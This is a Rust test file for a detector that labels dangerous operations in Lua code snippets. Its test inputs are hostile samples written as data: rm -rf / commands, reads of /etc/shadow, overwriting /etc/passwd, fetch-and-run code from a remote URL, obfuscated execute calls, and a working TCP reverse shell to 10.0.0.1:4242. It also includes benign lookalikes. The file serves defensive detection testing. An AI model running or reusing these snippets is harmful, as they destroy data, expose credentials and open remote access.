// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn lua() {
    check(
        "lua",
        &[
            (r#"os.execute("rm -rf /")"#, "shell rm -rf /"),
            (r#"os.execute "id""#, "shell id"),
            (r#"local x = os.execute; x("id")"#, "shell id"),
            ("os.execute([[rm -rf /]])", "shell rm -rf /"),
            (r#"local d = "/etc" os.execute("rm -rf " .. d .. "/x")"#, "shell rm -rf /etc/x"),
            (r#"os["exe" .. "cute"]("id")"#, "shell id"),
            (r#"local f = io.popen("ls " .. x) print(f:read("*a"))"#, "shell ls *?"),
            (r#"os.remove(os.getenv("HOME") .. "/.bashrc")"#, "delete ~/.bashrc"),
            (r#"os.rename("a", "b")"#, "move a; write b"),
            (r#"local f = io.open("/etc/passwd", "w") f:write("x")"#, "write /etc/passwd"),
            (r#"for l in io.lines("/etc/shadow") do print(l) end"#, "read /etc/shadow"),
            (r#"load("os.remove('x')")()"#, "delete x"),
            ("loadstring(x)()", "runs-unknown"),
            ("load(io.read('*a'))()", "runs-input"),
            (r#"load(require("socket.http").request("http://x.io"))()"#, "connect http://x.io; runs-fetched"),
            (r#"for _, f in ipairs({"a", "b"}) do os.remove(f) end"#, "delete a; delete b"),
            (r#"os.execute("\114\109 x")"#, "shell rm x"),
            (
                r#"local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);while true do local r=t:receive();local f=io.popen(r,"r")end"#,
                "connect tcp://10.0.0.1:4242; runs-fetched; shell *?; reverse-shell",
            ),
            // Text that only looks similar.
            (r#"print("os.execute('rm')")"#, ""),
            ("-- os.execute('rm')", ""),
            ("--[[ os.execute('rm') ]] print(1)", ""),
            ("--[==[\nos.remove('x')\n]] ]==]", ""),
            ("table.remove(t, 1)", ""),
            ("local t = {execute = 1} print(t.execute)", ""),
            (r#"io.open("out.txt"):read()"#, "read out.txt"),
        ],
    );
}
